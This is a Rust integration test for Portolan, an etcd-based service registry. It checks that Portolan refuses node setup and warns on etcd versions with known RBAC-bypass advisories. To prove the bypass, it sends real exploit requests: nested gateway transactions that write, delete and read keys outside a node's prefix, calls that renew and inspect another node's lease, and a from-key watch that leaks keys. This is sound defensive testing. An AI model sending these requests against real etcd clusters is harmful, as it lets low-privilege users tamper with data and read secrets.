//! What a node's credentials can do on the etcd this machine runs, tried the way an
//! attacker would: nested transactions on the gRPC gateway and the lease API. On an etcd
//! below the fixed releases (`portolan::etcd::advisory`) the attack works, so Portolan
//! must say so: `portolan auth` refuses, the daemons warn and export
//! `portolan_etcd_rbac_bypassable 1`. On a fixed etcd the attack is denied.
mod common;

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;
use portolan::etcd::advisory::{self, Version};

const T: Duration = Duration::from_secs(20);

/// An etcd with a root user and auth enabled.
async fn etcd_with_auth(root_password: &str) -> Etcd {
    let etcd = Etcd::start().await;
    let mut c = etcd.client().await;
    c.user_add("root", root_password, None)
        .await
        .expect("user add");
    c.user_grant_role("root", "root").await.expect("grant root");
    c.auth_enable().await.expect("auth enable");
    etcd
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn b64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// One call on etcd's gRPC gateway, as `user`'s token would make it.
async fn gateway(
    ep: &str,
    token: Option<&str>,
    path: &str,
    body: serde_json::Value,
) -> (u16, serde_json::Value) {
    let mut req = reqwest::Client::new()
        .post(format!("{ep}{path}"))
        .header("content-type", "application/json")
        .body(body.to_string());
    if let Some(t) = token {
        req = req.header("authorization", t);
    }
    let resp = req.send().await.expect("gateway request");
    let status = resp.status().as_u16();
    let body = resp.text().await.unwrap_or_default();
    (
        status,
        serde_json::from_str(&body).unwrap_or(serde_json::Value::String(body)),
    )
}

async fn token(ep: &str, user: &str, password: &str) -> String {
    let (status, body) = gateway(
        ep,
        None,
        "/v3/auth/authenticate",
        serde_json::json!({"name": user, "password": password}),
    )
    .await;
    assert_eq!(status, 200, "authenticate {user}: {body}");
    body["token"].as_str().expect("a token").to_string()
}

/// What the attack achieved, each measured against what root reads afterwards.
#[derive(Debug, Default, PartialEq, Eq)]
struct Attack {
    /// `services/web/evil` exists, written by the node.
    wrote_outside: bool,
    /// root's `services/web/manual` is gone.
    deleted_hand_written: bool,
    /// The node read `config/x`'s value.
    read_config: bool,
    /// The node listed the leases and saw another node's.
    listed_leases: bool,
    /// The node read the key names on another node's lease.
    read_lease_keys: bool,
    /// The node renewed another node's lease.
    kept_lease_alive: bool,
    /// A watch from its own prefix to the end of the keyspace showed the node a key
    /// outside its prefix (GHSA-xg4h-6gfc-h4m8: a read leak only).
    watched_outside: bool,
}

impl Attack {
    fn any(&self) -> bool {
        *self != Attack::default()
    }
}

/// `portolan-node-web1`, with `secret`, against keys root wrote: one nested transaction
/// on `/v3/kv/txn`, then the lease API on web2's lease.
async fn attack(ep: &str, prefix: &str, secret: &str, root_pw: &str) -> Attack {
    let mut root = etcd_client::Client::connect(
        [ep],
        Some(etcd_client::ConnectOptions::new().with_user("root", root_pw)),
    )
    .await
    .expect("root");
    let manual = format!("{prefix}/services/web/manual");
    let config = format!("{prefix}/config/x");
    let evil = format!("{prefix}/services/web/evil");
    root.put(manual.as_str(), "10.0.0.9:80", None)
        .await
        .unwrap();
    root.put(config.as_str(), "config-secret-value", None)
        .await
        .unwrap();
    let web2_lease = root.lease_grant(30, None).await.unwrap().id();
    let web2_key = format!("{prefix}/nodes/web2/services/web/web2-aaaaaaaaaaaa-80");
    root.put(
        web2_key.as_str(),
        r#"{"addr":"10.0.0.2:80"}"#,
        Some(etcd_client::PutOptions::new().with_lease(web2_lease)),
    )
    .await
    .unwrap();

    let tok = token(ep, "portolan-node-web1", secret).await;
    // Top-level, the same ops are refused: the role works as written.
    let (status, body) = gateway(
        ep,
        Some(&tok),
        "/v3/kv/put",
        serde_json::json!({"key": b64(evil.as_bytes()), "value": b64(b"10.6.6.6:80")}),
    )
    .await;
    assert!(
        status != 200 && body.to_string().contains("permission denied"),
        "a top-level put outside the node prefix: {status} {body}"
    );
    let (status, body) = gateway(
        ep,
        Some(&tok),
        "/v3/kv/txn",
        serde_json::json!({"success": [{"request_txn": {"success": [
            {"request_put": {"key": b64(evil.as_bytes()), "value": b64(b"10.6.6.6:80")}},
            {"request_delete_range": {"key": b64(manual.as_bytes())}},
            {"request_range": {"key": b64(config.as_bytes())}},
        ]}}]}),
    )
    .await;
    eprintln!("nested txn as portolan-node-web1: {status} {body}");
    let read_config = status == 200 && body.to_string().contains(&b64(b"config-secret-value"));

    let (status, body) = gateway(ep, Some(&tok), "/v3/lease/leases", serde_json::json!({})).await;
    eprintln!("lease list as portolan-node-web1: {status} {body}");
    let listed_leases = status == 200 && body.to_string().contains(&web2_lease.to_string());
    let (status, body) = gateway(
        ep,
        Some(&tok),
        "/v3/lease/timetolive",
        serde_json::json!({"ID": web2_lease.to_string(), "keys": true}),
    )
    .await;
    eprintln!("lease timetolive --keys as portolan-node-web1: {status} {body}");
    let read_lease_keys = status == 200 && body.to_string().contains(&b64(web2_key.as_bytes()));
    let before = root
        .lease_time_to_live(web2_lease, None)
        .await
        .unwrap()
        .ttl();
    let (status, body) = gateway(
        ep,
        Some(&tok),
        "/v3/lease/keepalive",
        serde_json::json!({"ID": web2_lease.to_string()}),
    )
    .await;
    eprintln!("lease keep-alive as portolan-node-web1: {status} {body}");
    let kept_lease_alive = status == 200
        && body["result"]["TTL"]
            .as_str()
            .is_some_and(|t| t.parse::<i64>().is_ok_and(|t| t > 0));
    let _ = before;

    let watched_outside = watch_leaks(ep, prefix, secret, &mut root).await;

    let got = |k: String| {
        let mut root = root.clone();
        async move { !root.get(k, None).await.unwrap().kvs().is_empty() }
    };
    Attack {
        wrote_outside: got(evil).await,
        deleted_hand_written: !got(manual).await,
        read_config,
        listed_leases,
        read_lease_keys,
        kept_lease_alive,
        watched_outside,
    }
}

/// Watches from the start of web1's prefix to the end of the keyspace as web1; root
/// then writes a key outside it, then a marker inside it. Leaked when the outside key's
/// event comes before the marker's.
async fn watch_leaks(ep: &str, prefix: &str, secret: &str, root: &mut etcd_client::Client) -> bool {
    let mut node = etcd_client::Client::connect(
        [ep],
        Some(etcd_client::ConnectOptions::new().with_user("portolan-node-web1", secret)),
    )
    .await
    .expect("log in as web1");
    let from = format!("{prefix}/nodes/web1/");
    let outside = format!("{prefix}/services/web/later");
    let marker = format!("{prefix}/nodes/web1/zz-marker");
    let Ok(mut stream) = node
        .watch(
            from.as_str(),
            Some(etcd_client::WatchOptions::new().with_from_key()),
        )
        .await
    else {
        return false;
    };
    root.put(outside.as_str(), "10.0.0.8:80", None)
        .await
        .unwrap();
    root.put(marker.as_str(), "{}", None).await.unwrap();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        let msg = match tokio::time::timeout_at(deadline, stream.message()).await {
            Ok(Ok(Some(m))) => m,
            _ => return false,
        };
        if msg.canceled() {
            return false;
        }
        for ev in msg.events() {
            match ev.kv().map(|kv| text(kv.key())) {
                Some(k) if k == outside => return true,
                Some(k) if k == marker => return false,
                _ => {}
            }
        }
    }
}

fn auth_cmd(
    ep: &str,
    prefix: &str,
    root_file: &Path,
    what: &str,
    name: &str,
    pw: &Path,
) -> Command {
    let mut cmd = portolan_cmd();
    cmd.args(["--config", "/dev/null", "auth", what, name])
        .arg("--password-file")
        .arg(pw)
        .args(["--etcd-endpoints", ep, "--prefix", prefix])
        .args(["--etcd-username", "root", "--etcd-password-file"])
        .arg(root_file);
    cmd
}

async fn scrape(addr: &str) -> String {
    match reqwest::get(format!("http://{addr}/metrics")).await {
        Ok(r) => r.text().await.unwrap_or_default(),
        Err(_) => String::new(),
    }
}

/// The advisory an attack step relies on, by id: what the table says about this
/// version is what the step must show.
fn affected(version: Version, id: &str) -> bool {
    advisory::ADVISORIES
        .iter()
        .find(|a| a.id == id)
        .unwrap_or_else(|| panic!("{id} is not in the table"))
        .affects(version)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_node_user_bypasses_etcd_rbac_exactly_where_portolan_refuses_and_warns() {
    let root_pw = "root-pw-rbac-bypass";
    let etcd = etcd_with_auth(root_pw).await;
    let ep = etcd.endpoint();
    let prefix = unique_prefix("bypass");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let root_file = d.join("root.pw");
    write_private(&root_file, root_pw);
    let mut root = etcd_client::Client::connect(
        [ep.as_str()],
        Some(etcd_client::ConnectOptions::new().with_user("root", root_pw)),
    )
    .await
    .expect("root");
    let reported = root.status().await.expect("status").version().to_string();
    let version = Version::parse(&reported).expect("etcd's version parses");
    let assessment = advisory::assess(&reported);
    let vulnerable = assessment.bypassable();
    eprintln!("etcd {reported}: {assessment:?}");

    // `portolan auth`: refused on a vulnerable etcd, naming the advisory and the release
    // to upgrade to; nothing is created, not even the password file.
    let node_pw = d.join("web1.pw");
    let lb_pw = d.join("lb.pw");
    for (what, name, pw) in [
        ("add-node", "web1", &node_pw),
        ("add-watcher", "lb", &lb_pw),
    ] {
        let out = auth_cmd(&ep, &prefix, &root_file, what, name, pw)
            .output()
            .expect("run portolan auth");
        let stderr = text(&out.stderr);
        if let advisory::Assessment::Bypassable {
            advisories,
            upgrade_to,
            ..
        } = &assessment
        {
            assert!(
                !out.status.success(),
                "auth {what} went through on {reported}"
            );
            assert!(
                stderr.contains(&format!("runs {reported}"))
                    && stderr.contains(advisories[0].id)
                    && stderr.contains(&format!("upgrade etcd to {upgrade_to}"))
                    && stderr.contains("--allow-unsafe-etcd"),
                "{stderr}"
            );
            assert!(!pw.exists());
            let out = auth_cmd(&ep, &prefix, &root_file, what, name, pw)
                .arg("--allow-unsafe-etcd")
                .output()
                .expect("run portolan auth");
            assert!(out.status.success(), "{}", text(&out.stderr));
            assert!(text(&out.stderr).contains("--allow-unsafe-etcd"));
        } else {
            assert!(out.status.success(), "auth {what}: {stderr}");
        }
    }
    assert!(
        root.user_get("portolan-node-web1").await.is_ok(),
        "no user made"
    );
    let secret = std::fs::read_to_string(&node_pw)
        .unwrap()
        .trim()
        .to_string();

    // The attack, measured: each step works exactly where its advisory says.
    let got = attack(&ep, &prefix, &secret, root_pw).await;
    eprintln!("etcd {reported}: {got:?}");
    let rfx7 = affected(version, "GHSA-rfx7-8w68-q57q");
    let q8m4 = affected(version, "GHSA-q8m4-xhhv-38mg");
    let want = Attack {
        wrote_outside: rfx7,
        deleted_hand_written: rfx7,
        read_config: rfx7,
        listed_leases: q8m4,
        read_lease_keys: affected(version, "GHSA-3p4g-rcw5-8298") || q8m4,
        kept_lease_alive: q8m4,
        watched_outside: affected(version, "GHSA-xg4h-6gfc-h4m8"),
    };
    assert_eq!(got, want, "etcd {reported}");
    assert_eq!(got.any(), vulnerable, "etcd {reported}: {got:?}");

    // The daemons, each as its least-privilege user, say so at start and on /metrics.
    let run = unique("bypass-run");
    let reg_listen = format!("127.0.0.1:{}", free_port());
    let reg_log = d.join("registrar.log");
    let mut cmd = portolan_cmd();
    cmd.args(["--config", "/dev/null", "registrar", "--node", "web1"])
        .args(["--advertise-ip", "127.0.0.1", "--ttl", "5"])
        .args(["--only-label", &format!("{TEST_LABEL}={run}")])
        .args(["--etcd-endpoints", &ep, "--prefix", &prefix])
        .args(["--listen", &reg_listen])
        .args([
            "--etcd-username",
            "portolan-node-web1",
            "--etcd-password-file",
        ])
        .arg(&node_pw)
        .arg("--state-dir")
        .arg(d.join("state"))
        .env("RUST_LOG", "info")
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&reg_log).unwrap())
        .stderr(std::fs::File::create(d.join("registrar.err")).unwrap());
    let _registrar = Proc::spawn("registrar", &mut cmd);

    std::fs::write(
        d.join("t.tera"),
        "{% for name, list in services %}backend {{ name }}\n{% for i in list %}  server {{ i.id }} {{ i.addr }}\n{% endfor %}{% endfor %}",
    )
    .unwrap();
    let w_listen = format!("127.0.0.1:{}", free_port());
    let toml = d.join("watcher.toml");
    std::fs::write(
        &toml,
        format!(
            "[etcd]\nendpoints = [\"{ep}\"]\nprefix = \"{prefix}\"\n\
             username = \"portolan-watcher-lb\"\npassword_file = \"{}\"\n\
             [watcher]\nname = \"lb\"\nlisten = \"{w_listen}\"\nallowed_networks = [\"10.0.0.0/8\"]\n\
             [[template]]\nsrc = \"{}\"\ndest = \"{}\"\nreload_cmd = \"true\"\n",
            lb_pw.display(),
            d.join("t.tera").display(),
            d.join("out.cfg").display(),
        ),
    )
    .unwrap();
    let w_log = d.join("watcher.log");
    let mut cmd = portolan_cmd();
    cmd.arg("--config")
        .arg(&toml)
        .arg("watcher")
        .env("RUST_LOG", "info")
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&w_log).unwrap())
        .stderr(std::fs::File::create(d.join("watcher.err")).unwrap());
    let _watcher = Proc::spawn("watcher", &mut cmd);
    let logs = || {
        format!(
            "registrar:\n{}{}\nwatcher:\n{}{}",
            std::fs::read_to_string(&reg_log).unwrap_or_default(),
            std::fs::read_to_string(d.join("registrar.err")).unwrap_or_default(),
            std::fs::read_to_string(&w_log).unwrap_or_default(),
            std::fs::read_to_string(d.join("watcher.err")).unwrap_or_default()
        )
    };
    let want_line = format!("portolan_etcd_rbac_bypassable {}", i64::from(vulnerable));
    // Logs go to stderr, or stdout under systemd: read both.
    let log_of = |out: &Path, err: &Path| {
        std::fs::read_to_string(out).unwrap_or_default()
            + &std::fs::read_to_string(err).unwrap_or_default()
    };
    let (reg_err, w_err) = (d.join("registrar.err"), d.join("watcher.err"));
    for (who, addr, out, err) in [
        ("registrar", &reg_listen, &reg_log, &reg_err),
        ("watcher", &w_listen, &w_log, &w_err),
    ] {
        let shown = eventually(T, || async {
            scrape(addr).await.lines().any(|l| l == want_line)
                && log_of(out, err).contains(&format!("runs {reported}"))
        })
        .await;
        assert!(
            shown,
            "{who}: no {want_line:?} or no version line\n{}\n{}",
            scrape(addr).await,
            logs()
        );
        let text = log_of(out, err);
        let line = text
            .lines()
            .find(|l| l.contains(&format!("runs {reported}")))
            .unwrap();
        if vulnerable {
            assert!(
                line.contains("WARN")
                    && line.contains(&ep)
                    && line.contains("GHSA-")
                    && line.contains("upgrade etcd to"),
                "{who}: {line}"
            );
        } else {
            assert!(!line.contains("WARN"), "{who}: {line}");
        }
    }

    // `portolan status` says so too, and in its JSON.
    assert!(
        eventually(T, || async { d.join("out.cfg").exists() }).await,
        "{}",
        logs()
    );
    let status = |json: bool| {
        let mut cmd = portolan_cmd();
        cmd.arg("--config").arg(&toml).arg("status");
        if json {
            cmd.arg("--json");
        }
        cmd.output().expect("run portolan status")
    };
    let out = status(false);
    let stdout = text(&out.stdout);
    assert_eq!(
        stdout.contains(&format!("warning: etcd at {ep} runs {reported}")),
        vulnerable,
        "{stdout}{}",
        text(&out.stderr)
    );
    let out = status(true);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", text(&out.stdout), text(&out.stderr)));
    assert_eq!(report["etcd_rbac_bypassable"], vulnerable, "{report}");
}
